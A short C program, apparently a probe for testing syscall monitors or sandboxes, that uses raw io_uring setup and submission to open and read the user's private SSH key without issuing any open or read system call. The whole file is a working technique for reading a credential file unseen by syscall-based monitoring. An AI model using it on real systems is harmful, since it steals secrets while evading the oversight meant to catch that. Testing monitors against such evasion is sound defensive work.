/* Open and read a file through io_uring, so that no open or read call is ever made. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct io_uring_params setup;
static struct io_uring_sqe *entries;
static char *sending, *completing;
static int ring;

static int submit(void) {
    unsigned *tail = (unsigned *)(sending + setup.sq_off.tail), *array = (unsigned *)(sending + setup.sq_off.array);
    unsigned *head = (unsigned *)(completing + setup.cq_off.head);
    struct io_uring_cqe *done = (struct io_uring_cqe *)(completing + setup.cq_off.cqes);
    array[0] = 0;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
    int result = done[*head & (setup.cq_entries - 1)].res;
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    return result;
}

int main(void) {
    char path[512], buffer[4096];
    snprintf(path, sizeof path, "%s/.ssh/id_ed25519", getenv("HOME"));
    ring = syscall(SYS_io_uring_setup, 1, &setup);
    if (ring < 0)
        return 3;
    size_t send_size = setup.sq_off.array + setup.sq_entries * sizeof(unsigned);
    size_t complete_size = setup.cq_off.cqes + setup.cq_entries * sizeof(struct io_uring_cqe);
    sending = mmap(NULL, send_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    completing = mmap(NULL, complete_size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    entries = mmap(NULL, setup.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    *entries = (struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)path, .open_flags = O_RDONLY};
    int fd = submit();
    if (fd < 0)
        return 4;
    *entries = (struct io_uring_sqe){.opcode = IORING_OP_READ, .fd = fd, .addr = (uintptr_t)buffer, .len = sizeof buffer};
    return submit() > 0 ? 0 : 5;
}
